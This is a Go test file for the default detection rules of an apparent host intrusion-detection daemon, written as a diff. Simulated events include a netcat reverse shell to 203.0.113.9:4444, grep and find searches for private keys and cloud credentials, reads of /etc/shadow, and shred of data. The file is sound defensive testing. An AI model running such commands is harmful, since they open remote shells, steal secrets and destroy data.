@@ -1,0 +1,299 @@
+package rules
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/nightjar-sec/nightjar/daemon/event"
+)
+
+func withParent(p *event.Process, parent string) *event.Process {
+	p.Parent = &event.Process{PID: 10, Name: parent, Exe: parent, ExePath: "/usr/bin/" + parent,
+		Parent: &event.Process{PID: 1, Name: "systemd"}}
+	return p
+}
+
+func withExe(p *event.Process, path string) *event.Process {
+	p.ExePath = path
+	p.Exe = path
+	return p
+}
+
+func withTTY(p *event.Process) *event.Process {
+	p.TTY = 34816
+	return p
+}
+
+func failed(ev *event.Event, errno int64) *event.Event {
+	ev.Res = -errno
+	return ev
+}
+
+func syscallEvent(t event.Type, p *event.Process, args ...int64) *event.Event {
+	ev := &event.Event{Type: t, Time: 1764180000123456789, PID: 4242, Proc: p}
+	copy(ev.Args[:], args)
+	return ev
+}
+
+func pathEvent(t event.Type, p *event.Process, path, path2 string, args ...int64) *event.Event {
+	ev := syscallEvent(t, p, args...)
+	ev.Path, ev.Path2 = []byte(path), []byte(path2)
+	return ev
+}
+
+func openMode(p *event.Process, path string, flags, mode int64) *event.Event {
+	ev := openEvent(p, path, flags)
+	ev.Args[2] = mode
+	return ev
+}
+
+func dupEvent(t event.Type, p *event.Process, fdType uint8, oldfd, newfd int64) *event.Event {
+	ev := syscallEvent(t, p, oldfd, newfd)
+	ev.Res = newfd
+	ev.FD = &event.FD{Num: int32(oldfd), Type: fdType, Name: []byte("10.1.0.5:51000->203.0.113.9:4444"),
+		Local:  event.SockAddr{Family: event.AFInet, Port: 51000, IP: ip4(10, 1, 0, 5)},
+		Remote: event.SockAddr{Family: event.AFInet, Port: 4444, IP: ip4(203, 0, 113, 9)}, Proto: 6}
+	return ev
+}
+
+type defaultCase struct {
+	rule string
+	hit  []*event.Event
+	miss []*event.Event
+}
+
+func defaultCases() []defaultCase {
+	const (
+		afInet   = 2
+		afPacket = 17
+	)
+	return []defaultCase{
+		{"Terminal shell in container",
+			[]*event.Event{execEvent(withTTY(inContainer(proc("bash")))), execEvent(withTTY(inContainer(proc("sh", "-i"))))},
+			[]*event.Event{execEvent(inContainer(proc("bash"))), execEvent(withTTY(proc("bash"))), execEvent(withTTY(inContainer(proc("python3"))))}},
+		{"Read sensitive file untrusted",
+			[]*event.Event{openEvent(proc("cat"), "/etc/shadow", oRDONLY), openEvent(proc("python3"), "/home/alice/.ssh/id_rsa", oRDONLY),
+				openEvent(proc("less"), "/etc/sudoers.d/90-cloud", oRDONLY), openEvent(proc("vim"), "/etc/pam.d/sshd", oRDWR),
+				openEvent(inContainer(proc("node")), "/etc/ssh/ssh_host_ed25519_key", oRDONLY)},
+			[]*event.Event{openEvent(proc("sshd"), "/etc/shadow", oRDONLY), openEvent(proc("cat"), "/etc/passwd", oRDONLY),
+				failed(openEvent(proc("cat"), "/etc/shadow", oRDONLY), 13), openEvent(proc("ssh"), "/home/alice/.ssh/id_rsa", oRDONLY),
+				openEvent(withParent(proc("sh"), "dpkg"), "/etc/shadow", oRDONLY), openEvent(proc("cat"), "/etc/ssh/ssh_host_ed25519_key.pub", oRDONLY)}},
+		{"Write below etc",
+			[]*event.Event{openEvent(proc("python3"), "/etc/hosts", oWRONLY|oTRUNC), openEvent(proc("bash"), "/etc/profile.d/x.sh", oWRONLY|oCREAT)},
+			[]*event.Event{openEvent(proc("dpkg"), "/etc/hosts", oWRONLY), openEvent(proc("python3"), "/etc/hosts", oRDONLY),
+				openEvent(proc("python3"), "/etcetera/x", oWRONLY), openEvent(proc("passwd"), "/etc/shadow", oWRONLY)}},
+		{"Write below binary dir",
+			[]*event.Event{openEvent(proc("curl"), "/usr/bin/evil", oWRONLY|oCREAT), openEvent(proc("cp"), "/bin/ls", oRDWR)},
+			[]*event.Event{openEvent(proc("dpkg"), "/usr/bin/ls", oWRONLY|oCREAT), openEvent(withParent(proc("cp"), "apt-get"), "/usr/bin/x", oWRONLY),
+				openEvent(proc("curl"), "/usr/share/doc/x", oWRONLY), openEvent(proc("cat"), "/usr/bin/ls", oRDONLY), openEvent(proc("curl"), "/usr/binx", oWRONLY)}},
+		{"Execution from /dev/shm",
+			[]*event.Event{execEvent(withExe(proc("x"), "/dev/shm/x"))},
+			[]*event.Event{execEvent(proc("ls")), execEvent(withExe(proc("x"), "/dev/shmx"))}},
+		{"Execution from temporary directory",
+			[]*event.Event{execEvent(withParent(withExe(proc("payload"), "/tmp/payload"), "bash")), execEvent(withExe(proc("m"), "/var/tmp/.x/m"))},
+			[]*event.Event{execEvent(withParent(withExe(proc("main"), "/tmp/go-build123/b001/exe/main"), "bash")),
+				execEvent(withParent(withExe(proc("app.test"), "/tmp/x/app.test"), "go")), execEvent(withExe(proc("x"), "/tmpx/x"))}},
+		{"Drop and execute new binary in container",
+			[]*event.Event{func() *event.Event { p := inContainer(proc("miner")); p.ExeUpperLayer = true; return execEvent(p) }()},
+			[]*event.Event{execEvent(inContainer(proc("nginx"))), func() *event.Event { p := proc("x"); p.ExeUpperLayer = true; return execEvent(p) }()}},
+		{"Fileless execution via memfd_create",
+			[]*event.Event{func() *event.Event { p := proc("3"); p.ExeFromMemfd = true; return execEvent(p) }(),
+				execEvent(withExe(proc("x"), "/memfd:payload (deleted)"))},
+			[]*event.Event{execEvent(proc("ls"))}},
+		{"PTRACE attached to process",
+			[]*event.Event{syscallEvent(event.Ptrace, proc("gdb"), 16, 1234), syscallEvent(event.Ptrace, proc("inject"), 5, 1234),
+				syscallEvent(event.Ptrace, proc("x"), 0x4206, 1234)},
+			[]*event.Event{syscallEvent(event.Ptrace, proc("gdb"), 2, 1234), failed(syscallEvent(event.Ptrace, proc("gdb"), 16, 1), 1)}},
+		{"PTRACE anti-debug attempt",
+			[]*event.Event{syscallEvent(event.Ptrace, proc("malware"), 0, 0)},
+			[]*event.Event{syscallEvent(event.Ptrace, withParent(proc("target"), "strace"), 0, 0), syscallEvent(event.Ptrace, proc("x"), 16, 5)}},
+		{"Kernel module loaded",
+			[]*event.Event{syscallEvent(event.FinitModule, proc("insmod"), 3, 0), failed(syscallEvent(event.InitModule, proc("x"), 100), 1)},
+			[]*event.Event{openEvent(proc("modprobe"), "/lib/modules/6.18/modules.dep", oRDONLY)}},
+		{"Clear Log Activities",
+			[]*event.Event{openEvent(proc("bash"), "/var/log/auth.log", oWRONLY|oTRUNC), openEvent(proc("sh"), "/run/utmp", oRDWR|oTRUNC)},
+			[]*event.Event{openEvent(proc("logrotate"), "/var/log/auth.log", oWRONLY|oTRUNC), openEvent(proc("rsyslogd"), "/var/log/syslog", oWRONLY|0o2000|oCREAT),
+				openEvent(proc("bash"), "/var/lib/x.log", oWRONLY|oTRUNC)}},
+		{"Create Symlink Over Sensitive Files",
+			[]*event.Event{pathEvent(event.Symlinkat, proc("ln"), "/etc/shadow", "/tmp/s", -100), pathEvent(event.Symlink, proc("ln"), "/root/.ssh", "/tmp/k")},
+			[]*event.Event{pathEvent(event.Symlinkat, proc("ln"), "/tmp/a", "/tmp/b", -100), failed(pathEvent(event.Symlink, proc("ln"), "/etc/shadow", "/x"), 17)}},
+		{"Create Hardlink Over Sensitive Files",
+			[]*event.Event{pathEvent(event.Linkat, proc("ln"), "/etc/shadow", "/tmp/h", -100, -100, 0), pathEvent(event.Link, proc("ln"), "/etc/sudoers", "/tmp/s")},
+			[]*event.Event{pathEvent(event.Linkat, proc("ln"), "/tmp/a", "/tmp/b", -100, -100, 0)}},
+		{"Packet socket created in container",
+			[]*event.Event{syscallEvent(event.Socket, inContainer(proc("python3")), afPacket, 3, 768)},
+			[]*event.Event{syscallEvent(event.Socket, proc("python3"), afPacket, 3, 768), syscallEvent(event.Socket, inContainer(proc("curl")), afInet, 1, 0)}},
+		{"Packet socket created on host",
+			[]*event.Event{syscallEvent(event.Socket, proc("python3"), afPacket, 3, 768)},
+			[]*event.Event{syscallEvent(event.Socket, proc("tcpdump"), afPacket, 3, 768), syscallEvent(event.Socket, inContainer(proc("python3")), afPacket, 3, 768),
+				failed(syscallEvent(event.Socket, proc("python3"), afPacket, 3, 768), 1)}},
+		{"Redirect STDOUT/STDIN to Network Connection",
+			[]*event.Event{dupEvent(event.Dup2, proc("bash"), event.FDIPv4, 3, 0), dupEvent(event.Dup3, proc("python3"), event.FDIPv6, 3, 1)},
+			[]*event.Event{dupEvent(event.Dup2, proc("bash"), event.FDFile, 3, 1), dupEvent(event.Dup2, proc("bash"), event.FDIPv4, 3, 7)}},
+		{"Netcat Remote Code Execution",
+			[]*event.Event{execEvent(proc("nc", "-e", "/bin/sh", "203.0.113.9", "4444")), execEvent(proc("ncat", "--sh-exec", "bash", "-l", "4444"))},
+			[]*event.Event{execEvent(proc("nc", "-z", "example.com", "80")), execEvent(proc("curl", "-e", "x"))}},
+		{"Search Private Keys or Passwords",
+			[]*event.Event{execEvent(proc("find", "/", "-name", "id_rsa")), execEvent(proc("grep", "-r", "BEGIN RSA PRIVATE KEY", "/home")),
+				execEvent(proc("grep", "-ri", "Password", "/etc"))},
+			[]*event.Event{execEvent(proc("find", ".", "-name", "*.go")), execEvent(proc("grep", "-r", "TODO", "."))}},
+		{"Find AWS Credentials",
+			[]*event.Event{execEvent(proc("grep", "-r", "aws_secret_access_key", "/")), execEvent(proc("find", "/", "-path", "*.aws/credentials"))},
+			[]*event.Event{execEvent(proc("grep", "foo")), execEvent(proc("aws", "configure"))}},
+		{"Find Cloud Credentials",
+			[]*event.Event{execEvent(proc("find", "/", "-name", "application_default_credentials.json")), execEvent(proc("grep", "-r", "private_key_id", "/srv"))},
+			[]*event.Event{execEvent(proc("gcloud", "auth", "login")), execEvent(proc("find", "/", "-name", "*.json"))}},
+		{"Remove Bulk Data from Disk",
+			[]*event.Event{execEvent(proc("shred", "-u", "/var/db/data")), execEvent(proc("wipe", "-rf", "/srv"))},
+			[]*event.Event{execEvent(proc("rm", "-rf", "/tmp/build"))}},
+		{"Contact K8S API Server From Container",
+			[]*event.Event{connectEvent(inContainer(proc("curl")), ip4(10, 96, 0, 1), 443), connectEvent(inContainer(proc("python3")), ip4(192, 168, 49, 2), 6443),
+				failed(connectEvent(inContainer(proc("curl")), ip4(10, 96, 0, 1), 443), 115)},
+			[]*event.Event{connectEvent(inContainer(proc("curl")), ip4(8, 8, 8, 8), 443), connectEvent(inContainer(proc("kubectl")), ip4(10, 96, 0, 1), 443),
+				connectEvent(proc("curl"), ip4(10, 96, 0, 1), 443), failed(connectEvent(inContainer(proc("curl")), ip4(10, 96, 0, 1), 443), 111)}},
+		{"Disallowed SSH Connection Non Standard Port",
+			[]*event.Event{connectEvent(proc("ssh", "-p", "2222", "host"), ip4(203, 0, 113, 9), 2222)},
+			[]*event.Event{connectEvent(proc("ssh", "host"), ip4(203, 0, 113, 9), 22), connectEvent(proc("curl"), ip4(203, 0, 113, 9), 2222)}},
+		{"Set Setuid or Setgid bit",
+			[]*event.Event{pathEvent(event.Chmod, proc("chmod"), "/tmp/sh", "", 0o4755), pathEvent(event.Fchmodat, proc("chmod"), "/tmp/sh", "", -100, 0o2755),
+				syscallEvent(event.Fchmod, proc("python3"), 3, 0o6711), openMode(proc("cp"), "/tmp/sh", oWRONLY|oCREAT, 0o4755)},
+			[]*event.Event{pathEvent(event.Chmod, proc("chmod"), "/tmp/sh", "", 0o755), pathEvent(event.Chmod, proc("dpkg"), "/usr/bin/su", "", 0o4755),
+				openMode(proc("cp"), "/tmp/sh", oWRONLY|oCREAT, 0o755), openMode(proc("cp"), "/tmp/sh", oWRONLY, 0o4755)}},
+		{"Change thread namespace",
+			[]*event.Event{syscallEvent(event.Setns, proc("nsenter"), 3, 0x40000000)},
+			[]*event.Event{syscallEvent(event.Setns, proc("runc"), 3, 0), syscallEvent(event.Setns, withParent(proc("x"), "containerd-shim"), 3, 0),
+				failed(syscallEvent(event.Setns, proc("nsenter"), 3, 0), 1)}},
+		{"Unshare namespace by unexpected program",
+			[]*event.Event{syscallEvent(event.Unshare, proc("unshare"), 0x10000000)},
+			[]*event.Event{syscallEvent(event.Unshare, proc("runc:[1:CHILD]"), 0x20000), syscallEvent(event.Unshare, proc("bwrap"), 0x10000000)}},
+		{"Schedule Cron Jobs",
+			[]*event.Event{openEvent(proc("bash"), "/etc/cron.d/evil", oWRONLY|oCREAT), openEvent(proc("crontab"), "/var/spool/cron/crontabs/root", oWRONLY|oCREAT),
+				execEvent(proc("crontab", "/tmp/jobs"))},
+			[]*event.Event{execEvent(proc("crontab", "-l")), openEvent(proc("cron"), "/etc/crontab", oRDONLY), openEvent(proc("dpkg"), "/etc/cron.daily/x", oWRONLY)}},
+	}
+}
+
+// TestDefaultRules feeds every default rule events that must and must not
+// trigger it.
+func TestDefaultRules(t *testing.T) {
+	s, err := Default(Options{Hostname: "node-1"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if w := s.Warnings(); len(w) != 0 {
+		t.Errorf("default rules load with warnings: %v", ErrorList(w))
+	}
+	tested := map[string]bool{}
+	for _, tc := range defaultCases() {
+		tested[tc.rule] = true
+		for i, ev := range tc.hit {
+			got := fired(s, ev)
+			if !contains(got, tc.rule) {
+				t.Errorf("%s: event %d (%s) fired %v, want the rule", tc.rule, i, ev.Type, got)
+			}
+		}
+		for i, ev := range tc.miss {
+			if got := fired(s, ev); contains(got, tc.rule) {
+				t.Errorf("%s: non-matching event %d (%s) fired it", tc.rule, i, ev.Type)
+			}
+		}
+	}
+	for _, r := range s.Rules() {
+		if !tested[r.Name] {
+			t.Errorf("default rule %q has no test case", r.Name)
+		}
+		if !r.Enabled || len(r.EventTypes) == 0 || len(r.Tags) == 0 || r.Desc == "" {
+			t.Errorf("default rule %q: enabled=%v types=%v tags=%v", r.Name, r.Enabled, r.EventTypes, r.Tags)
+		}
+		hasTechnique := false
+		for _, tag := range r.Tags {
+			if strings.HasPrefix(tag, "T1") {
+				hasTechnique = true
+			}
+		}
+		if !hasTechnique {
+			t.Errorf("default rule %q has no MITRE ATT&CK technique tag", r.Name)
+		}
+	}
+	if len(s.Rules()) < 20 {
+		t.Errorf("%d default rules", len(s.Rules()))
+	}
+}
+
+// TestDefaultRulesOutput checks that every default rule's output renders
+// without unresolved fields on a matching event.
+func TestDefaultRulesOutput(t *testing.T) {
+	s, err := Default(Options{Hostname: "node-1"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, tc := range defaultCases() {
+		s.Eval(tc.hit[0], func(m *Match) {
+			if m.Rule.Name != tc.rule {
+				return
+			}
+			a := m.Alert()
+			if !strings.HasPrefix(a.Output, "18:00:00.123456789: "+m.Rule.Priority.String()+" ") || strings.Contains(a.Output, "%") {
+				t.Errorf("%s: output %q", tc.rule, a.Output)
+			}
+			if a.OutputFields["proc.pid"] == nil || a.OutputFields["proc.cmdline"] == nil {
+				t.Errorf("%s: output fields %v", tc.rule, a.OutputFields)
+			}
+		})
+	}
+}
+
+// benignEvents is what building and testing a small Go program and running
+// a shell script look like to the rules.
+func benignEvents() []*event.Event {
+	goProc := withParent(proc("go", "build", "./..."), "bash")
+	compile := withParent(withExe(proc("compile", "-o", "/tmp/go-build42/b001/_pkg_.a"), "/usr/local/go/pkg/tool/linux_amd64/compile"), "go")
+	testBin := withParent(withExe(proc("app.test", "-test.v"), "/tmp/go-build42/b001/app.test"), "go")
+	script := withParent(proc("bash", "build.sh"), "sshd")
+	script.TTY = 34816
+	curl := withParent(proc("curl", "-s", "http://127.0.0.1:8080/health"), "bash")
+	rsyslog := proc("rsyslogd", "-n")
+	sshd := proc("sshd", "-D")
+	out := []*event.Event{
+		execEvent(script),
+		execEvent(goProc),
+		openEvent(goProc, "/root/app/go.mod", oRDONLY),
+		openEvent(goProc, "/usr/local/go/src/fmt/print.go", oRDONLY),
+		openEvent(goProc, "/etc/passwd", oRDONLY),
+		openEvent(goProc, "/etc/ld.so.cache", oRDONLY|0o2000000),
+		openEvent(goProc, "/tmp/go-build42/b001/importcfg", oWRONLY|oCREAT|oTRUNC),
+		execEvent(compile),
+		openEvent(compile, "/tmp/go-build42/b001/_pkg_.a", oWRONLY|oCREAT|oTRUNC),
+		openMode(goProc, "/root/app/app", oWRONLY|oCREAT|oTRUNC, 0o755),
+		pathEvent(event.Chmod, goProc, "/root/app/app", "", 0o755),
+		execEvent(testBin),
+		openEvent(testBin, "/root/app/testdata/in.json", oRDONLY),
+		pathEvent(event.Unlinkat, goProc, "/tmp/go-build42/b001/_pkg_.a", "", -100, 0),
+		pathEvent(event.Mkdirat, goProc, "/tmp/go-build43", "", -100, 0o700),
+		syscallEvent(event.Clone, goProc, 0x3d0f00),
+		execEvent(withParent(proc("ls", "-la"), "bash")),
+		execEvent(withParent(proc("grep", "-r", "TODO", "."), "bash")),
+		execEvent(withParent(proc("find", ".", "-name", "*.go"), "bash")),
+		execEvent(curl),
+		syscallEvent(event.Socket, curl, 2, 1, 6),
+		connectEvent(curl, ip4(127, 0, 0, 1), 8080),
+		dupEvent(event.Dup2, withParent(proc("bash"), "bash"), event.FDFile, 3, 1),
+		openEvent(rsyslog, "/var/log/syslog", oWRONLY|0o2000|oCREAT),
+		openEvent(sshd, "/etc/shadow", oRDONLY),
+		openEvent(withParent(proc("cat"), "bash"), "/etc/hostname", oRDONLY),
+		syscallEvent(event.ProcExit, goProc, 0),
+	}
+	return out
+}
+
+func TestDefaultRulesBenign(t *testing.T) {
+	s, err := Default(Options{Hostname: "node-1"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, ev := range benignEvents() {
+		if got := fired(s, ev); len(got) > 0 {
+			t.Errorf("benign event %d (%s by %s) fired %v", i, ev.Type, ev.Proc.Name, got)
+		}
+	}
+}
